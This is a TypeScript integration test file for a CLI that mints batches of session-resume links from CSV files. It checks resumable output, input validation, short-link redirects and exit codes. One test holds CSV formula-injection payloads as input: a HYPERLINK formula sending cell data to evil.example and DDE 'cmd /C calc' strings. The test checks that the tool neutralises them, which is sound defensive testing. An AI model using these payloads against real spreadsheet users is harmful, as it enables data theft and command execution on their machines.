import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import type { LocalRuntime } from '../../local/runtime';
import { shortLinkKey } from '../../lambdas/adapters/naming';
import { parse } from 'csv-parse/sync';
import { deleteEntries, deleteProject, seedEntries, uid } from '../support/seed';
import { registerSensitive } from '../support/sensitive';
import { startTestRuntime } from '../support/runtime';

const root = path.join(import.meta.dirname, '..', '..');
const run = promisify(execFile);

/** Runs the real `session-recovery` command in a child process. */
const cli = async (args: string[]): Promise<{ code: number; stdout: string; stderr: string }> => {
  try {
    const { stdout, stderr } = await run(process.execPath, [path.join(root, 'bin', 'session-recovery-cli.js'), '--endpoint', runtime.apiUrl, ...args]);
    return { code: 0, stdout, stderr };
  } catch (error) {
    const e = error as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
};

const records = (file: string): string[][] => parse(readFileSync(file), { relax_column_count: true });

let runtime: LocalRuntime;
const previousBase = process.env.SHORT_LINK_BASE_URL;
const dir = mkdtempSync(path.join(tmpdir(), 'sr-mint-batch-'));
const projectId = uid('proj');
const flowId = uid('flow');
let ids: string[];
const shortCodes: string[] = [];
const others: string[] = [];

beforeAll(async () => {
  // Short links locally are served on the API port: let the runtime say where, as `npm start` does.
  delete process.env.SHORT_LINK_BASE_URL;
  // A batch of 1,000 campaign links is many writes to the emulator: under load they can outlast the 7.5 s early answer.
  runtime = await startTestRuntime();
  ids = await seedEntries(1000, projectId, flowId);
  const created = await cli(['--json', 'credentials', 'create', '--project', projectId, '--label', 'campaign']);
  registerSensitive((JSON.parse(created.stdout) as { secret: string }).secret);
});
afterAll(async () => {
  await runtime.stop();
  process.env.SHORT_LINK_BASE_URL = previousBase;
  await deleteEntries([...ids, ...others, ...shortCodes.map(shortLinkKey)]);
  await deleteProject(projectId);
  rmSync(dir, { recursive: true, force: true });
});

// A campaign batch writes each link's record (1,000 UpdateItems against the emulator): its tests get 2 minutes.
const BAD_ROW = 500;
/** 1,000 rows, the one at BAD_ROW (0-based) with an entry id the grammar refuses; a pass-through column that needs quoting. */
const writeInput = (file: string): void => {
  const lines = ids.map((id, i) => (i === BAD_ROW ? 'bad--id,,"Doe, Jane"' : `${id},,"Person ""${i}"""`));
  writeFileSync(file, `entry_id,expires_at,name\n${lines.join('\n')}\n`);
};

describe('mint-batch against the local runtime', () => {
  const input = path.join(dir, 'entries.csv');
  const output = path.join(dir, 'links.csv');
  const args = [
    'mint-batch',
    '--project',
    projectId,
    '--input',
    input,
    '--output',
    output,
    '--resume-url',
    'https://quiz.example.com/flow',
    '--campaign',
    'spring-sms',
    '--short',
  ];

  it('writes one row per input row (1,001 lines with the header), the bad one with its error, and exits 1', async () => {
    writeInput(input);
    const result = await cli(args);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(
      /^Wrote 1,000 rows to .*links\.csv in [\d.]+ s: 999 links minted; 1 rows failed in the file \(their error_code and error_message say why\)\.\n$/,
    );
    const text = readFileSync(output, 'utf8');
    expect(text.trimEnd().split('\n')).toHaveLength(1001);
    const [header, ...rows] = records(output);
    expect(header).toEqual(['entry_id', 'url', 'short_url', 'token', 'expires_at', 'error_code', 'error_message', 'input_digest', 'name']);
    expect(rows.map((r) => r[0])).toEqual(ids.map((id, i) => (i === BAD_ROW ? 'bad--id' : id)));
    expect(rows[BAD_ROW]).toEqual([
      'bad--id',
      '',
      '',
      '',
      '',
      'invalid_request',
      expect.stringMatching(/^Invalid request: entry_id must be/),
      expect.stringMatching(/^[0-9a-f]{16}$/),
      'Doe, Jane',
    ]);
    for (const [i, row] of rows.entries()) {
      if (i === BAD_ROW) continue;
      expect([row[5], row[6], row[8]]).toEqual(['', '', `Person "${i}"`]);
      registerSensitive(row[3], row[1], row[2], row[2].split('/').pop());
      shortCodes.push(row[2].split('/').pop()!);
    }
  }, 120_000);

  it('mints links that resume their entries, through their short links', async () => {
    const rows = records(output).slice(1);
    for (const i of [0, 1, BAD_ROW - 1, BAD_ROW + 1, 999]) {
      const [entryId, url, shortUrl, token, expiresAt] = rows[i];
      expect(shortUrl).toMatch(new RegExp(`^${runtime.apiUrl}/r/[0-9A-Za-z]{16}$`));
      const redirect = await fetch(shortUrl, { redirect: 'manual' });
      expect([redirect.status, redirect.headers.get('location'), redirect.headers.get('cache-control'), redirect.headers.get('referrer-policy')]).toEqual([
        302,
        url,
        'no-store',
        'no-referrer',
      ]);
      const link = new URL(redirect.headers.get('location')!);
      expect([link.searchParams.get('token'), link.searchParams.get('entry_id'), link.searchParams.get('expires_at')]).toEqual([token, entryId, expiresAt]);
      const resumed = await fetch(`${runtime.apiUrl}/v1/load-entry-data`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ flow_id: flowId, project_id: projectId, entry_id: entryId, token, expires_at: expiresAt }),
      });
      expect([resumed.status, ((await resumed.json()) as { entry: { entry_id: string } }).entry.entry_id]).toEqual([200, entryId]);
    }
  });

  it('serves HEAD on the API port without a body, and a small page for an unknown code', async () => {
    const shortUrl = records(output)[1][2];
    const head = await fetch(shortUrl, { method: 'HEAD', redirect: 'manual' });
    expect([head.status, head.headers.get('location'), await head.text()]).toEqual([302, records(output)[1][1], '']);
    const unknown = await fetch(`${runtime.apiUrl}/r/${'Z'.repeat(16)}`, { redirect: 'manual', headers: { accept: 'text/html' } });
    expect([unknown.status, unknown.headers.get('content-type')]).toEqual([404, 'text/html; charset=utf-8']);
  });

  it('skips the rows already written when run again, and still exits 1 for the failed row in the file', async () => {
    const before = readFileSync(output, 'utf8');
    const again = await cli(args);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain('Wrote 0 rows to');
    expect(again.stderr).toContain('(1,000 already there from an earlier run)');
    expect(readFileSync(output, 'utf8')).toBe(before);
  });

  it('carries on from a row cut off mid-write, rewriting it whole, in order', async () => {
    const before = records(output);
    // Cut the file in the middle of row 300 (as a run stopped mid-write leaves it).
    const text = readFileSync(output, 'utf8');
    const cut = text.split('\n').slice(0, 301).join('\n').length + 40;
    truncateSync(output, Buffer.byteLength(text.slice(0, cut)));
    const result = await cli(args);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('Wrote 700 rows to');
    expect(result.stderr).toContain('(300 already there from an earlier run)');
    const after = records(output);
    expect(after).toHaveLength(1001);
    expect(after.map((r) => r[0])).toEqual(before.map((r) => r[0]));
    expect(after.slice(0, 300)).toEqual(before.slice(0, 300));
    for (const row of after.slice(300)) if (row[0] !== 'bad--id') registerSensitive(row[3], row[1], row[2], row[2].split('/').pop());
    for (const row of after.slice(300)) if (row[2]) shortCodes.push(row[2].split('/').pop()!);
  }, 120_000);

  it('refuses, with exit 2 and nothing written, an input without entry_id, --short without --resume-url, and an output of other columns', async () => {
    const noId = path.join(dir, 'no-id.csv');
    writeFileSync(noId, 'id,name\nentry_1,Ada\n');
    const missing = await cli(['mint-batch', '--project', projectId, '--input', noId, '--output', path.join(dir, 'x.csv')]);
    expect([missing.code, missing.stderr]).toEqual([
      2,
      `${noId} has no entry_id column: its first line must name the columns (entry_id, and optionally flow_id and expires_at).\n`,
    ]);
    const short = await cli(['mint-batch', '--project', projectId, '--input', input, '--output', path.join(dir, 'x.csv'), '--short']);
    expect([short.code, short.stderr]).toEqual([2, '--short needs --resume-url: a short link redirects to the full link.\n']);
    const other = path.join(dir, 'other.csv');
    writeFileSync(other, 'a,b\n1,2\n');
    const clash = await cli(['mint-batch', '--project', projectId, '--input', input, '--output', other]);
    expect(clash.code).toBe(2);
    expect(clash.stderr).toContain('exists with other columns');
    expect(readFileSync(other, 'utf8')).toBe('a,b\n1,2\n');
  });

  it('refuses (exit 2) an output written from another input, and leaves it as it was', async () => {
    const otherInput = path.join(dir, 'other-entries.csv');
    writeFileSync(otherInput, `entry_id,expires_at,name\n${uid('entry')},,x\n`);
    const before = readFileSync(output, 'utf8');
    const result = await cli(['mint-batch', '--project', projectId, '--input', otherInput, '--output', output]);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("it is another input's output. Give another --output.");
    expect(readFileSync(output, 'utf8')).toBe(before);
  });

  describe('refuses (exit 2), leaving the output as it was, to carry on from an output another input wrote', () => {
    /** The 1,000-row input with `change` applied to its lines (header first), and a copy of the output, cut mid-row when `cut`. */
    const attempt = async (change: (lines: string[]) => string[], cut = false) => {
      const changed = path.join(dir, `changed-${uid('in')}.csv`);
      const copy = path.join(dir, `copy-${uid('out')}.csv`);
      writeInput(changed);
      writeFileSync(changed, `${change(readFileSync(changed, 'utf8').trimEnd().split('\n')).join('\n')}\n`);
      const text = readFileSync(output);
      writeFileSync(copy, cut ? text.subarray(0, text.length - 30) : text);
      const before = readFileSync(copy);
      const result = await cli(['mint-batch', '--project', projectId, '--input', changed, '--output', copy, '--resume-url', 'https://quiz.example.com/flow']);
      expect(readFileSync(copy).equals(before)).toBe(true);
      return { code: result.code, stderr: result.stderr.replaceAll(changed, 'IN').replaceAll(copy, 'OUT') };
    };

    it('the same entries, one pass-through cell changed (row 700), even with its last row cut off', async () => {
      const expected = {
        code: 2,
        stderr: `OUT row 700 (entry ${ids[699]}) was written from other cells than line 701 of IN holds now: it is another input's output, or the input changed since. Give another --output.\n`,
      };
      const change = (lines: string[]) => lines.map((line, i) => (i === 700 ? line.replace(/"Person ""699"""$/, '"Person ""six hundred"""') : line));
      expect(await attempt(change)).toEqual(expected);
      expect(await attempt(change, true)).toEqual(expected);
    });

    it('the same entries and pass-through cells, an expires_at cell (not written back) filled in', async () => {
      const at = new Date(Date.now() + 86400_000).toISOString();
      expect(await attempt((lines) => lines.map((line, i) => (i === 1 ? line.replace(',,', `,${at},`) : line)))).toEqual({
        code: 2,
        stderr: `OUT row 1 (entry ${ids[0]}) was written from other cells than line 2 of IN holds now: it is another input's output, or the input changed since. Give another --output.\n`,
      });
    });

    it('another entry in a row', async () => {
      expect(await attempt((lines) => lines.map((line, i) => (i === 3 ? line.replace(ids[2], 'entry_other') : line)))).toEqual({
        code: 2,
        stderr: `OUT row 3 is for entry ${ids[2]}, but that row of IN (line 4) is for entry_other: it is another input's output. Give another --output.\n`,
      });
    });

    it('an input with fewer rows than the output', async () => {
      expect(await attempt((lines) => lines.slice(0, 11))).toEqual({
        code: 2,
        stderr: "OUT has 1000 rows, but IN only 10: it is another input's output. Give another --output.\n",
      });
    });
  });

  it('refuses a malformed input with exit 2, the line and no stack trace, before minting or writing anything', async () => {
    const out = path.join(dir, 'never-written.csv');
    const good = ids.slice(0, 600).map((id) => `${id},,fine`);
    for (const [text, message] of [
      [`entry_id,"expires_at\n${ids[0]},,x\n`, 'line 1: a quoted field is never closed'],
      // Past the first batch of 500: a run that streamed would have minted and written those rows first.
      [`entry_id,expires_at,name\n${good.join('\n')}\n${ids[600]},,"Doe" Jane\n${ids[601]},,x\n`, 'line 602: text after a closing quote'],
      [
        `entry_id,expires_at,name\n${good.join('\n')}\n${ids[600]},,Jane "JD" Doe\n`,
        'line 602: a quote inside an unquoted field (quote the whole field and double the quote)',
      ],
      [`entry_id,expires_at,name\n${good.join('\n')}\n${ids[600]},,"Jane\n${ids[601]},,x\n`, 'line 602: a quoted field is never closed'],
      [
        Buffer.concat([Buffer.from(`entry_id,expires_at,name\n${good.join('\n')}\n${ids[600]},,Jos`), Buffer.from([0xe9]), Buffer.from('\n')]),
        'line 602: the file is not UTF-8 text (save it as "CSV UTF-8")',
      ],
    ] as const) {
      const bad = path.join(dir, 'malformed.csv');
      writeFileSync(bad, text);
      const result = await cli(['mint-batch', '--project', projectId, '--input', bad, '--output', out]);
      expect([result.code, result.stderr]).toEqual([2, `${bad} ${message}. Nothing was minted or written: fix the file and run the command again.\n`]);
      expect(existsSync(out)).toBe(false);
    }
  });

  it('writes cells from the file that a spreadsheet would run as formulas as text, phone numbers and other numbers as they are, and carries on from them', async () => {
    const input = path.join(dir, 'formulas.csv');
    const output = path.join(dir, 'formulas-links.csv');
    const cells = [
      [ids[0], '"=HYPERLINK(""https://evil.example/?""&D2,""Click"")"', '+447700900123'],
      [ids[1], `"@SUM(1+1)*cmd|' /C calc'!A0"`, '-12.50'],
      [`"=cmd|' /C calc'!A0"`, '+cmd|x!A0', '-2+3'],
      [ids[2], '"\t=1+1"', '"\r=1+1"'],
    ];
    writeFileSync(input, `entry_id,name,phone\n${cells.map((row) => row.join(',')).join('\n')}\n`);
    const result = await cli(['mint-batch', '--project', projectId, '--input', input, '--output', output]);
    expect(result.code).toBe(1);
    const [, ...rows] = records(output);
    for (const row of rows) if (row[3]) registerSensitive(row[3], row[1]);
    expect(rows.map((row) => [row[0], row[5], row[8], row[9]])).toEqual([
      [ids[0], '', `'=HYPERLINK("https://evil.example/?"&D2,"Click")`, '+447700900123'],
      [ids[1], '', `'@SUM(1+1)*cmd|' /C calc'!A0`, '-12.50'],
      [`'=cmd|' /C calc'!A0`, 'invalid_request', `'+cmd|x!A0`, `'-2+3`],
      [ids[2], '', `'\t=1+1`, `'\r=1+1`],
    ]);
    // The columns this program writes are left alone: none can begin so.
    expect(rows.filter((row) => !row[5]).map((row) => [/^[0-9a-f]{64}$/.test(row[3]), /^\d{4}-/.test(row[4])])).toEqual([
      [true, true],
      [true, true],
      [true, true],
    ]);
    const before = readFileSync(output, 'utf8');
    const again = await cli(['mint-batch', '--project', projectId, '--input', input, '--output', output]);
    expect([again.code, again.stderr]).toEqual([1, expect.stringContaining('Wrote 0 rows to')]);
    expect(readFileSync(output, 'utf8')).toBe(before);
  });

  it('exits 3, saying how to carry on, when the API cannot be reached', async () => {
    const result = await cli([
      '--endpoint',
      'http://127.0.0.1:9',
      'mint-batch',
      '--project',
      projectId,
      '--input',
      input,
      '--output',
      path.join(dir, 'unreachable.csv'),
    ]);
    expect(result.code).toBe(3);
    expect(result.stderr).toContain('Could not reach http://127.0.0.1:9');
    expect(result.stderr).toContain('run the same command again to carry on');
  });

  it("takes a row's flow_id and expires_at cells, and --flow and --ttl-seconds for the empty ones", async () => {
    const otherFlow = uid('flow');
    const [there] = await seedEntries(1, projectId, otherFlow);
    others.push(there);
    const input = path.join(dir, 'cells.csv');
    const output = path.join(dir, 'cells-links.csv');
    const at = new Date(Date.now() + 2 * 86400_000).toISOString();
    writeFileSync(input, `entry_id,flow_id,expires_at\n${ids[0]},,\n${there},${otherFlow},${at}\n${there},,\n`);
    const started = Date.now();
    const result = await cli(['mint-batch', '--project', projectId, '--input', input, '--output', output, '--flow', flowId, '--ttl-seconds', '3600']);
    expect(result.code).toBe(1);
    const [, own, cells, batchFlow] = records(output);
    expect(Math.abs(Date.parse(own[4]) - (started + 3600_000))).toBeLessThan(60_000);
    expect([cells[4], cells[5]]).toEqual([at, '']);
    // --flow binds a row without a flow_id cell: this entry is in another flow.
    expect(batchFlow[5]).toBe('entry_not_found');
  });

  it('on a terminal, shows a progress bar on stderr, ending at 100%', async () => {
    const input = path.join(dir, 'terminal.csv');
    const output = path.join(dir, 'terminal-links.csv');
    writeFileSync(input, `entry_id\n${ids.slice(0, 3).join('\n')}\n`);
    const command = [
      process.execPath,
      path.join(root, 'bin', 'session-recovery-cli.js'),
      '--endpoint',
      runtime.apiUrl,
      'mint-batch',
      '--project',
      projectId,
      '--input',
      input,
      '--output',
      output,
    ]
      .map((arg) => `'${arg}'`)
      .join(' ');
    // util-linux's `script` runs the command on a pseudo-terminal; with stdout sent to /dev/null, what it shows is stderr alone.
    const { stdout: terminal } = await run('script', ['-qec', `${command} >/dev/null`, '/dev/null']);
    expect(terminal).toMatch(/\r\[#{24}\] 100% {2}3 rows {2}/);
    expect(terminal).toMatch(/\nWrote 3 rows to /);
    expect(records(output)).toHaveLength(4);
  });

  it('mint says when a link is longer than one SMS segment, and --short prints a short link', async () => {
    const args = ['mint', '--project', projectId, '--entry', ids[0], '--resume-url', 'https://quiz.example.com/flow'];
    const long = await cli(args);
    expect(long.code).toBe(0);
    expect(long.stdout).toMatch(/^\(\d{3} characters: more than one 160-character SMS segment; --short makes a short link\)$/m);
    const short = await cli([...args, '--short', '--campaign', 'spring-sms']);
    const shortUrl = new RegExp(`^(${runtime.apiUrl}/r/[0-9A-Za-z]{16})  \\(short link: redirects to the link above\\)$`, 'm').exec(short.stdout)?.[1];
    expect(shortUrl).toBeDefined();
    shortCodes.push(shortUrl!.split('/').pop()!);
    for (const out of [long.stdout, short.stdout]) registerSensitive(...(out.match(/[0-9a-f]{64}/g) ?? []));
    registerSensitive(shortUrl, shortUrl!.split('/').pop());
  });

  it('stops with exit 1 and the reason when the API refuses the batch itself', async () => {
    const out = path.join(dir, 'refused.csv');
    const refused = await cli(['mint-batch', '--project', uid('proj'), '--input', input, '--output', out]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/^The API refused the batch: 409 no_active_credential: /);
    expect(readFileSync(out, 'utf8')).toBe('entry_id,url,short_url,token,expires_at,error_code,error_message,input_digest,name\n');
  });
});
